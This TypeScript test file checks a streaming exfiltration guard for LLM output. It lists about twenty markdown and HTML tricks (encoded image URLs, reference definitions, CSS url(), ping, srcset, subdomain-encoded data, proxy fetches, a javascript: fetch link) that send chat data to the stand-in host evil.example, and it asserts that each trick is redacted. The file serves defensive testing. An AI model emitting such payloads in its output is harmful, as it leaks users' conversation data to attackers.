// The exfiltration guard against the markdown and HTML tricks of issue 16, whole and streamed at several chunk
// sizes through the real hold-back window: no request to the attacker's host survives in what is released.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { pino } from 'pino';
import type { GuardContext } from '../../../core/context.js';
import type { Guard } from '../../../core/guard.js';
import { GuardPipeline } from '../../../core/pipeline.js';
import { OutputWindow } from '../../../core/stream-window.js';
import { buildGuard } from '../../registry.js';

const log = pino({ level: 'silent' });
const env = { log, dataDir: '/nonexistent', secrets: [] as string[] };
const EVIL = 'evil.example';
const FILLER = `${'The quick brown fox jumps over the lazy dog again and again. '.repeat(12)}\n\n`;

function guard(options: Record<string, unknown> = {}): Guard {
  return buildGuard({ use: 'exfiltration', options }, 'response', env, 'guards.response[0]');
}

function context(): GuardContext {
  return {
    requestId: 'r',
    route: 'chat',
    principal: { id: 'p', kind: 'anonymous', scopes: [] },
    model: 'm',
    body: { messages: [{ role: 'user', content: 'hi' }] },
    state: new Map(),
    log,
  };
}

/** The text the client receives when the output arrives in chunks of `size` (0: one non-streamed answer). */
async function guarded(text: string, size: number, g: Guard = guard()): Promise<string> {
  const pipeline = new GuardPipeline([g], { defaultDeadlineMs: 5000, log });
  const ctx = context();
  const w = new OutputWindow((view) => {
    ctx.output = view;
    return pipeline.run('response', ctx);
  }, pipeline.holdBack);
  let out = '';
  const step = size === 0 ? text.length : size;
  for (let i = 0; i < text.length && size > 0; i += step) {
    const r = await w.push(text.slice(i, i + step));
    assert.equal(r.blocked, undefined);
    out += r.release;
  }
  const last = await w.finish(size === 0 ? text : '');
  assert.equal(last.blocked, undefined);
  return out + last.release;
}

const SIZES = [0, 1, 7, 16];

async function assertCaught(name: string, text: string, options: Record<string, unknown> = {}) {
  assert.ok(text.includes(EVIL), name);
  for (const size of SIZES) {
    const out = await guarded(text, size, guard(options));
    assert.ok(!out.includes(EVIL), `${name}: the attacker's host survives at chunk size ${size}: ${out}`);
    assert.match(out, /\[REDACTED:[a-z-]+\]/, `${name} (size ${size})`);
  }
}

const DATA = 'd=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdCBoaXN0b3J5';
const PNG = `https://${EVIL}/p.png`;
const COLLECT = `https://${EVIL}/collect`;

/** The tricks, each URL ending in `q`: data in the query (`?d=...`), or nothing for the off-list policy. */
function tricks(q: string): [string, string][] {
  return [
    ['entity-encoded colon in a markdown image', `![a](https&#58;//${EVIL}/p.png${q})`],
    ['entity-encoded colon in an img tag', `<img src="https&#58;//${EVIL}/q.png${q}">`],
    ['escaped backtick before an image', `Note: \\\`![a](${PNG}${q})\``],
    ['code span opened on the line before', `a \` b\nc \` ![a](${PNG}${q}) \` end`],
    ['reference definition in a blockquote', `![a][x]\n\n> [x]: ${COLLECT}${q}\n`],
    ['reference definition in a list item', `![a][x]\n\n- [x]: ${COLLECT}${q}\n`],
    ['case- and space-folded label', `![a][My   Ref]\n\n[my ref]: ${COLLECT}${q}\n`],
    ['alt text with a newline', `![a\nb](${COLLECT}${q})`],
    ['alt text with nested brackets', `![a [b] c](${COLLECT}${q})`],
    ['CSS url() in a style attribute', `<div style="background:url(//${EVIL}/bg${q})">hi</div>`],
    ['CSS url() with an escaped function name', `<p style="background: \\75 rl(//${EVIL}/bg${q})">x</p>`],
    ['table background', `<table background="//${EVIL}/t${q}"><tr><td>x</td></tr></table>`],
    ['a ping', `<a href="/docs" ping="https://${EVIL}/ping${q}">docs</a>`],
    ['short hex path segments', `[docs](https://${EVIL}/73/65/63/72/65/74/2d/6b/65/79)`],
    ['hex subdomain labels', `![a](https://73656372.6574206b.6579.${EVIL}/p.png)`],
    // Host names are case-folded, so DNS exfiltration spells data in base32 or hex.
    ['base32 subdomain label', `![a](https://onswg4tfoqqgwzlzebuxgidtgqza.${EVIL}/p.png)`],
    ['entity-encoded javascript: link', `<a href="javascript&colon;fetch('//${EVIL}')">x</a>`],
    ['backslash host in an img tag', `<img src="/\\${EVIL}/p${q}">`],
    ['srcset candidate', `<img src="/ok.png" srcset="/ok2.png 2x, //${EVIL}/s.png${q} 3x">`],
    ['style sheet with image-set', `<style>p{background:image-set("//${EVIL}/i${q}" 1x)}</style>`],
  ];
}

describe('exfiltration guard: tricks a renderer turns into a request', () => {
  for (const [name, text] of tricks(`?${DATA}`)) {
    it(`catches ${name} carrying data, whole and streamed`, () => assertCaught(name, text));
  }
  // The default (images: 'off-list') flags every off-list load, so the same tricks are caught with no data in
  // the URL; images: 'data' still catches them when the URL carries data.
  for (const [name, text] of tricks('')) {
    it(`catches ${name} without data by default`, () => assertCaught(name, text));
  }
  for (const [name, text] of tricks(`?${DATA}`)) {
    it(`catches ${name} carrying data under images: data`, () =>
      assertCaught(name, text, { images: 'data' }));
  }
});

describe('exfiltration guard: table cells', () => {
  it('redacts both of two table cells that carry the same image (the second was placed on the first)', () =>
    assertCaught('two identical cells', `| a | b |\n|---|---|\n| ![x](${PNG}) | ![x](${PNG}) |\n`, {
      allowedHosts: ['*.acme.io'],
    }));
});

describe('exfiltration guard: a service that fetches a URL it is given', () => {
  it('catches a badge proxy asked to fetch a data-carrying URL', () =>
    assertCaught('proxy fetch', `![b](https://img.shields.io/endpoint?url=https://${EVIL}/x?${DATA})`));
  it('catches it nested twice, URL-encoded', () =>
    assertCaught(
      'nested proxy fetch',
      `![b](https://img.shields.io/endpoint?url=${encodeURIComponent(`https://r.example/go?to=https://${EVIL}/x?${DATA}`)})`,
    ));
});

describe('exfiltration guard: images without data', () => {
  it('lets an off-list image that carries no data through under images: data, whole and streamed', async () => {
    const texts = [
      `![build](https://img.shields.io/badge/build-passing-green.svg) and ![logo](${PNG})`,
      `<img src="https://opencollective.com/express/sponsor/0/avatar.svg"> ${FILLER}`,
      '[![npm](https://versionbadg.es/ljharb/qs.svg)](https://npmjs.org/package/qs)',
    ];
    for (const text of texts) {
      for (const size of SIZES)
        assert.equal(await guarded(text, size, guard({ images: 'data' })), text, `size ${size}: ${text}`);
    }
  });

  it('flags an off-list image by default even when its URL carries no data (zero-click loads)', async () => {
    for (const text of ['![a](https://evil.example/s.png)', '<img src="https://evil.example/a/b3f1">'])
      for (const size of SIZES)
        assert.match(await guarded(text, size), /REDACTED:off-list-image/, `size ${size}`);
  });
});

describe('exfiltration guard: reference definitions across a stream', () => {
  it('redacts a definition that arrives long after the image that uses it', async () => {
    await assertCaught(
      'late definition',
      `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}?${DATA}\n`,
    );
    await assertCaught(
      'late definition',
      `See ![chart][stats] below.\n\n${FILLER}${FILLER}[stats]: ${COLLECT}\n`,
      {
        images: 'off-list',
      },
    );
  });

  it('redacts an image whose definition scrolled out of the window long before', async () => {
    const text = `[stats]: ${COLLECT}\n\n${FILLER}${FILLER}Here: ![chart][stats]\n`;
    for (const size of SIZES) {
      const out = await guarded(text, size, guard({ images: 'off-list' }));
      // The definition was released (a link without data is allowed); the image that loads it is not.
      assert.ok(!out.includes('![chart][stats]'), `size ${size}`);
      assert.match(out, /Here: \[REDACTED:off-list-image\]/, `size ${size}`);
    }
  });
});

describe('exfiltration guard: what renders as text stays', () => {
  it('leaves code spans, fenced and indented code, escaped markup and allowed hosts alone', async () => {
    const texts = [
      `Write \`![a](${PNG})\` to embed an image.`,
      `\`\`\`html\n<img src="${PNG}">\n<script>alert(1)</script>\n\`\`\`\n`,
      `> quoted\n\n    ![a](${PNG})\n`,
      `Escaped: \\![a](https://docs.acme.io/p.png) and &lt;img src="${PNG}"&gt;`,
      '![logo](https://cdn.acme.io/logo.png) and [docs](https://docs.acme.io/guide)',
      `${FILLER}\`\`\`md\n${FILLER}![a](${PNG})\n\`\`\`\n`,
    ];
    const g = () => guard({ allowedHosts: ['*.acme.io'] });
    for (const text of texts) {
      for (const size of SIZES) assert.equal(await guarded(text, size, g()), text, `size ${size}: ${text}`);
    }
  });

  it('passes a style sheet on an allowed host at every chunk size, also when a window ends inside its end tag', async () => {
    // Longer than the hold-back, so a window ending at "</style" (the end tag not yet complete) must still hold it.
    const text = `<style>body{background:url(https://img.acme.io/${'a1b2'.repeat(20)}/collect)}</style>\n\nafter`;
    for (let size = 1; size <= 24; size++) {
      assert.equal(await guarded(text, size, guard({ allowedHosts: ['*.acme.io'] })), text, `size ${size}`);
    }
  });
});
